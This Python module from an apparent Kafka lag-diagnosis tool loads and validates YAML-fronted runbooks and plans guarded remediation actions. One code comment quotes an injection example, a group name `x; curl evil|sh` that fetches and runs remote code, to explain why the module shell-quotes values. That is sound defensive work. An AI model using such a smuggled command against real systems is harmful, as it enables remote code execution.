"""Runbooks as data: Markdown files with YAML front matter in ``runbooks/``.

A runbook says which findings it matches, what an engineer checks, which
registered actions may run (with their guardrails) and what Slack says next.
Loading validates everything up front and fails with one line naming the file
and the field, so a bad edit fails the runbook test, not a 3 a.m. sweep.

Front matter::

    diagnosis: slow_consumer          # required: a diagnosis of contract 2
    severities: [warning, critical]   # optional: default every severity
    title: Slow consumer              # required
    diagnostic_steps:                 # required, non-empty
      - title: Describe the group     # required
        command: kafka-consumer-groups.sh --bootstrap-server <broker> --describe --group {{ group }}
                                      # values in a command are shell-quoted for you
        why: LAG per partition, and which CONSUMER-ID / HOST owns it     # optional
    actions:                          # optional list
      - action: scale_consumers       # required: a registered action (remediation.action_names())
        severities: [critical]        # optional: a subset of the runbook's
        params: {step: 1}             # optional: only the params that action accepts
        guardrails:                   # optional: may only tighten the config
          require_approval: true      #   never false for an irreversible action
          cooldown_minutes: 60        #   never shorter than the config's
    slack:
      next_steps:                     # required, non-empty: Slack mrkdwn templates;
        - "..."                       # {{ group }} {{ topic }} {{ cluster }} {{ partitions }} are escaped;
                                      # a command inside the text: `... --group {{ group | shell | code }}`

The Markdown body after the front matter is the human-readable runbook.
"""

from __future__ import annotations

import os
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any, Iterable, Mapping

from lagdoctor.contracts import DIAGNOSES, SEVERITIES

ENV_DIR = "LAGDOCTOR_RUNBOOKS_DIR"
NO_ACTION = "no_action"  # the branch a DAG takes when a plan has no action
TEMPLATE_VARS = ("group", "topic", "cluster", "partitions", "diagnosis", "severity", "pattern",
                 "hot_owner", "owner_keeps_up")
# An owner keeps up on a partition when it consumes at least this share of what arrives there
# (the diagnosis' 1 - imbalance_behind_slack).
KEEPS_UP_SHARE = 0.85
_TOP_KEYS = {"diagnosis", "severities", "title", "diagnostic_steps", "actions", "slack"}
_STEP_KEYS = {"title", "command", "why"}
_ACTION_KEYS = {"action", "severities", "params", "guardrails"}
_GUARDRAIL_KEYS = {"require_approval": bool, "cooldown_minutes": (int, float)}


class RunbookError(ValueError):
    """One line: ``<file>: <field>: <problem>``."""


@dataclass(frozen=True)
class DiagnosticStep:
    title: str
    command: str = ""
    why: str = ""


@dataclass(frozen=True)
class RunbookAction:
    action: str
    severities: tuple[str, ...]
    params: Mapping[str, Any] = field(default_factory=dict)
    guardrails: Mapping[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Runbook:
    name: str
    path: str
    diagnosis: str
    severities: tuple[str, ...]
    title: str
    diagnostic_steps: tuple[DiagnosticStep, ...]
    actions: tuple[RunbookAction, ...]
    next_steps: tuple[str, ...]
    body: str

    def matches(self, finding: Mapping[str, Any]) -> bool:
        return finding.get("diagnosis") == self.diagnosis and finding.get("severity") in self.severities


@dataclass(frozen=True)
class PlannedAction:
    action: str
    params: Mapping[str, Any]
    guardrails: Mapping[str, Any]
    requires_approval: bool  # in a real run; the runner has the final word (config too)
    irreversible: bool
    description: str


@dataclass(frozen=True)
class Plan:
    """What to do about one finding. ``as_dict()`` is what crosses XCom."""

    runbook: str | None
    title: str
    diagnosis: str
    severity: str
    next_steps: tuple[str, ...]
    diagnostic_steps: tuple[DiagnosticStep, ...]
    actions: tuple[PlannedAction, ...]
    # A provisional finding (issue 18): the runbook's state-changing actions are held back
    # until a later sweep decides the cause; their names are kept here for the record.
    waiting_for_diagnosis: bool = False
    held_actions: tuple[str, ...] = ()

    @property
    def branches(self) -> list[str]:
        """Task ids for a ``@task.branch``: one per planned action, or NO_ACTION."""
        return [a.action for a in self.actions] or [NO_ACTION]

    def as_dict(self) -> dict[str, Any]:
        d = asdict(self)
        d["next_steps"] = list(self.next_steps)
        d["diagnostic_steps"] = [asdict(s) for s in self.diagnostic_steps]
        d["actions"] = [{**asdict(a), "params": dict(a.params), "guardrails": dict(a.guardrails)} for a in self.actions]
        d["held_actions"] = list(self.held_actions)
        d["branches"] = self.branches
        return d


# ------------------------------------------------------------------ loading

def default_runbooks_dir() -> Path:
    env = os.environ.get(ENV_DIR)
    return Path(env) if env else Path(__file__).resolve().parents[2] / "runbooks"


def split_front_matter(text: str, where: str) -> tuple[str, str]:
    lines = text.splitlines(keepends=True)
    if not lines or lines[0].strip() != "---":
        raise RunbookError(f"{where}: front matter: the file must start with a '---' line")
    for i, line in enumerate(lines[1:], 1):
        if line.strip() == "---":
            return "".join(lines[1:i]), "".join(lines[i + 1:])
    raise RunbookError(f"{where}: front matter: no closing '---' line")


def load_runbook(path: str | os.PathLike, actions: Mapping[str, Any] | None = None) -> Runbook:
    import yaml

    p = Path(path)
    where = _display(p)
    head, body = split_front_matter(p.read_text(encoding="utf-8"), where)
    try:
        meta = yaml.safe_load(head) or {}
    except yaml.YAMLError as exc:
        mark = getattr(exc, "problem_mark", None)
        line = f" (line {mark.line + 2})" if mark is not None else ""
        raise RunbookError(f"{where}: front matter: not valid YAML{line}") from None
    if not isinstance(meta, Mapping):
        raise RunbookError(f"{where}: front matter: expected a mapping")
    return parse_runbook(meta, body, name=p.stem, path=where, actions=actions)


def parse_runbook(meta: Mapping[str, Any], body: str = "", *, name: str, path: str,
                  actions: Mapping[str, Any] | None = None) -> Runbook:
    if actions is None:
        from lagdoctor.remediation.registry import registered_actions

        actions = registered_actions()

    def fail(fld: str, problem: str) -> RunbookError:
        return RunbookError(f"{path}: {fld}: {problem}")

    unknown = sorted(set(meta) - _TOP_KEYS)
    if unknown:
        raise fail(unknown[0], f"unknown field (known: {', '.join(sorted(_TOP_KEYS))})")
    diagnosis = meta.get("diagnosis")
    if diagnosis not in DIAGNOSES:
        raise fail("diagnosis", f"{diagnosis!r} is not one of {', '.join(DIAGNOSES)}")
    severities = _severities(meta.get("severities", list(SEVERITIES)), "severities", fail)
    title = meta.get("title")
    if not isinstance(title, str) or not title.strip():
        raise fail("title", "required, a non-empty string")

    steps_raw = meta.get("diagnostic_steps")
    if not isinstance(steps_raw, list) or not steps_raw:
        raise fail("diagnostic_steps", "required, a non-empty list")
    steps = []
    for i, s in enumerate(steps_raw):
        fld = f"diagnostic_steps[{i}]"
        if not isinstance(s, Mapping):
            raise fail(fld, "expected a mapping with title (and command, why)")
        if set(s) - _STEP_KEYS:
            raise fail(f"{fld}.{sorted(set(s) - _STEP_KEYS)[0]}", f"unknown field (known: {', '.join(sorted(_STEP_KEYS))})")
        if not isinstance(s.get("title"), str) or not s["title"].strip():
            raise fail(f"{fld}.title", "required, a non-empty string")
        steps.append(DiagnosticStep(str(s["title"]), str(s.get("command") or ""), str(s.get("why") or "")))

    acts = []
    acts_raw = meta.get("actions") or []
    if not isinstance(acts_raw, list):
        raise fail("actions", "expected a list")
    for i, a in enumerate(acts_raw):
        fld = f"actions[{i}]"
        if not isinstance(a, Mapping):
            raise fail(fld, "expected a mapping with action (and severities, params, guardrails)")
        if set(a) - _ACTION_KEYS:
            raise fail(f"{fld}.{sorted(set(a) - _ACTION_KEYS)[0]}", f"unknown field (known: {', '.join(sorted(_ACTION_KEYS))})")
        name_ = a.get("action")
        if name_ not in actions:
            raise fail(f"{fld}.action", f"unknown action {name_!r} (registered: {', '.join(sorted(actions))})")
        impl = actions[name_]
        a_sev = _severities(a.get("severities", list(severities)), f"{fld}.severities", fail)
        if set(a_sev) - set(severities):
            raise fail(f"{fld}.severities", f"{sorted(set(a_sev) - set(severities))} not among the runbook's severities")
        params = a.get("params") or {}
        if not isinstance(params, Mapping):
            raise fail(f"{fld}.params", "expected a mapping")
        for k, v in params.items():
            accepted = getattr(impl, "params", {})
            if k not in accepted:
                raise fail(f"{fld}.params.{k}", f"{name_} accepts {', '.join(sorted(accepted)) or 'no params'}")
            if isinstance(v, bool) or not isinstance(v, accepted[k]):
                raise fail(f"{fld}.params.{k}", f"wrong type {type(v).__name__}")
        guard = a.get("guardrails") or {}
        if not isinstance(guard, Mapping):
            raise fail(f"{fld}.guardrails", "expected a mapping")
        for k, v in guard.items():
            if k not in _GUARDRAIL_KEYS:
                raise fail(f"{fld}.guardrails.{k}", f"unknown guardrail (known: {', '.join(sorted(_GUARDRAIL_KEYS))})")
            if isinstance(v, bool) != (_GUARDRAIL_KEYS[k] is bool) or not isinstance(v, _GUARDRAIL_KEYS[k]):
                raise fail(f"{fld}.guardrails.{k}", f"wrong type {type(v).__name__}")
        if guard.get("require_approval") is False and getattr(impl, "irreversible", False):
            raise fail(f"{fld}.guardrails.require_approval", f"{name_} is irreversible: approval cannot be waived")
        acts.append(RunbookAction(str(name_), a_sev, dict(params), dict(guard)))

    slack = meta.get("slack")
    if not isinstance(slack, Mapping) or set(slack) - {"next_steps"}:
        raise fail("slack", "expected a mapping with next_steps")
    next_steps = slack.get("next_steps")
    if not isinstance(next_steps, list) or not next_steps or not all(isinstance(s, str) and s.strip() for s in next_steps):
        raise fail("slack.next_steps", "required, a non-empty list of strings")
    for i, s in enumerate(next_steps):
        _check_template(s, f"slack.next_steps[{i}]", fail)
    for i, s in enumerate(steps):
        _check_template(s.command, f"diagnostic_steps[{i}].command", fail)
        _check_template(s.why, f"diagnostic_steps[{i}].why", fail)

    return Runbook(name=name, path=path, diagnosis=str(diagnosis), severities=severities, title=title.strip(),
                   diagnostic_steps=tuple(steps), actions=tuple(acts), next_steps=tuple(next_steps), body=body)


def load_runbooks(path: str | os.PathLike | None = None) -> list[Runbook]:
    """Every ``*.md`` under ``path`` (default: ``runbooks/`` or LAGDOCTOR_RUNBOOKS_DIR)."""
    directory = Path(path) if path is not None else default_runbooks_dir()
    if not directory.is_dir():
        raise RunbookError(f"{directory}: not a directory of runbooks")
    from lagdoctor.remediation.registry import registered_actions

    actions = registered_actions()
    runbooks = [load_runbook(p, actions) for p in sorted(directory.glob("*.md")) if p.name.lower() != "readme.md"]
    seen: dict[tuple[str, str], str] = {}
    for rb in runbooks:
        for sev in rb.severities:
            other = seen.setdefault((rb.diagnosis, sev), rb.path)
            if other != rb.path:
                raise RunbookError(f"{rb.path}: severities: {rb.diagnosis}/{sev} is already matched by {other}")
    return runbooks


# ------------------------------------------------------------------ choosing

def choose_actions(finding: Mapping[str, Any], runbooks: Iterable[Runbook]) -> Plan:
    """The runbook plan for one finding (contract 2). Pure: reads nothing but its arguments."""
    from lagdoctor.notify.templates import render_mrkdwn_source, render_plain, shell_quote
    from lagdoctor.remediation.registry import get_action

    diagnosis, severity = str(finding.get("diagnosis", "")), str(finding.get("severity", ""))
    runbook = next((rb for rb in runbooks if rb.matches(finding)), None)
    if runbook is None:
        return Plan(None, diagnosis, diagnosis, severity, (), (), ())
    values = template_values(finding)
    # Commands are pasted into a shell: every value is one quoted word there, so a
    # group named `x; curl evil|sh` cannot run anything, whatever the runbook says.
    shell_values = {k: shell_quote(v) for k, v in values.items()}
    planned = []
    for ra in runbook.actions:
        if severity not in ra.severities or ruled_out_by_evidence(ra.action, finding):
            continue
        impl = get_action(ra.action)
        planned.append(PlannedAction(
            action=ra.action, params=dict(ra.params), guardrails=dict(ra.guardrails),
            requires_approval=bool(impl.changes_state and (impl.requires_approval or ra.guardrails.get("require_approval"))),
            irreversible=impl.irreversible, description=impl.summary,
        ))
    # A step whose condition the evidence does not meet renders empty: not a step.
    next_steps = tuple(t for t in (render_mrkdwn_source(s, **values).strip() for s in runbook.next_steps) if t)
    held: list[str] = []
    waiting = finding.get("provisional") is True
    if waiting:
        from lagdoctor.notify.threads import held_until_decided

        # Acting on a cause not yet known could make it worse (scaling a group whose record is
        # stuck): nothing that changes state is planned or proposed until the cause is decided.
        # A finding Slack hears only once decided (threads rule 12) gets no advice either: its
        # reply would open a thread (top-level) for what may yet be healthy.
        quiet = held_until_decided(finding)
        held = [a.action for a in planned if quiet or get_action(a.action).changes_state]
        planned = [a for a in planned if a.action not in held]
        next_steps = (waiting_step(finding),) + next_steps
    return Plan(
        runbook=runbook.name, title=runbook.title, diagnosis=diagnosis, severity=severity,
        next_steps=next_steps,
        waiting_for_diagnosis=waiting, held_actions=tuple(held),
        diagnostic_steps=tuple(
            DiagnosticStep(s.title, render_plain(s.command, **shell_values) if s.command else "",
                           render_plain(s.why, **values) if s.why else "")
            for s in runbook.diagnostic_steps),
        actions=tuple(planned),
    )


def waiting_step(finding: Mapping[str, Any]) -> str:
    """The plan's first step for a provisional finding (mrkdwn, values escaped)."""
    from lagdoctor.notify.provisional import deciding_between_text, decided_by_text
    from lagdoctor.notify.templates import escape_mrkdwn

    return (f"Waiting for the diagnosis: still deciding between {escape_mrkdwn(deciding_between_text(finding))}; "
            f"{decided_by_text(finding)}. No remediation is planned or proposed until then.")


def plan_for_finding(finding: Mapping[str, Any], runbooks_dir: str | os.PathLike | None = None) -> dict[str, Any]:
    """Task-level helper: load the runbooks and return the XCom-safe plan for a finding."""
    return choose_actions(finding, load_runbooks(runbooks_dir)).as_dict()


def hot_owner_evidence(finding: Mapping[str, Any]) -> tuple[str, list[int]]:
    """("<member> on <host>" when one member owns every partition the finding names, else "";
    the other partitions that member keeps up on), from the finding's per-partition rows."""
    evidence = finding.get("evidence") if isinstance(finding.get("evidence"), Mapping) else {}
    rows = [r for r in evidence.get("partitions") or [] if isinstance(r, Mapping)]
    hot = {p for p in finding.get("partitions") or [] if isinstance(p, int)}
    hot_rows = [r for r in rows if r.get("partition") in hot]
    owners = {r.get("member_id") for r in hot_rows}
    if not hot or len(hot_rows) != len(hot) or len(owners) != 1 or None in owners:
        return "", []
    member = next(iter(owners))
    host = next((r.get("host") for r in hot_rows if r.get("host")), None)
    keeps_up = sorted(
        r["partition"] for r in rows
        if r.get("member_id") == member and r.get("partition") not in hot and isinstance(r.get("partition"), int)
        and isinstance(r.get("produce_rate"), (int, float)) and isinstance(r.get("consume_rate"), (int, float))
        and r["produce_rate"] > 0 and r["consume_rate"] >= KEEPS_UP_SHARE * r["produce_rate"])
    return f"{member} on {host}" if host else str(member), keeps_up


def ruled_out_by_evidence(action: str, finding: Mapping[str, Any]) -> str | None:
    """Why the evidence says an action of the runbook cannot help this finding, else None."""
    if action == "restart_consumers" and finding.get("diagnosis") == "partition_imbalance":
        owner, keeps_up = hot_owner_evidence(finding)
        if keeps_up:
            return f"{owner} keeps up on partition(s) {', '.join(map(str, keeps_up))}: the host is not the cause"
    return None


def template_values(finding: Mapping[str, Any]) -> dict[str, Any]:
    parts = finding.get("partitions") or []
    owner, keeps_up = hot_owner_evidence(finding)
    return {
        "group": finding.get("group_id", ""), "topic": finding.get("topic", ""),
        "cluster": finding.get("cluster", ""), "diagnosis": finding.get("diagnosis", ""),
        "severity": finding.get("severity", ""), "pattern": finding.get("pattern", ""),
        "partitions": ",".join(str(p) for p in parts) if parts else "all",
        "hot_owner": owner, "owner_keeps_up": ", ".join(map(str, keeps_up)),
    }


def _severities(value: Any, fld: str, fail) -> tuple[str, ...]:
    if isinstance(value, str):
        value = [value]
    if not isinstance(value, list) or not value or any(v not in SEVERITIES for v in value):
        raise fail(fld, f"expected a non-empty list among {', '.join(SEVERITIES)}, got {value!r}")
    return tuple(value)


def _check_template(source: str, fld: str, fail) -> None:
    from jinja2 import TemplateSyntaxError, meta as jmeta

    from lagdoctor.notify.templates import mrkdwn_env

    if not source:
        return
    try:
        names = jmeta.find_undeclared_variables(mrkdwn_env().parse(source))
    except TemplateSyntaxError as exc:
        raise fail(fld, f"template error: {exc.message}") from None
    bad = sorted(set(names) - set(TEMPLATE_VARS))
    if bad:
        raise fail(fld, f"unknown placeholder {{{{ {bad[0]} }}}} (known: {', '.join(TEMPLATE_VARS)})")


def _display(p: Path) -> str:
    return f"{p.parent.name}/{p.name}"
